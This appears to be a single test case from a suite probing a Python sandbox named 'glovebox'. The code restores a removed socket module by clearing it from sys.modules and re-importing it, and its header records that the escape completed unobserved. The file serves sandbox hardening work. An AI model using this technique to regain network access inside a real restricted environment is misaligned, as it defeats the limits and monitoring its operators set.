# id: N07
# family: network
# goal: bring the removed module back by forgetting that it was removed
# finding: PY302 PY306
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    import sys

    for name in ("_socket", "socket"):
        sys.modules.pop(name, None)
    import _socket

    return str(_socket.socket(2, 1, 0))


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
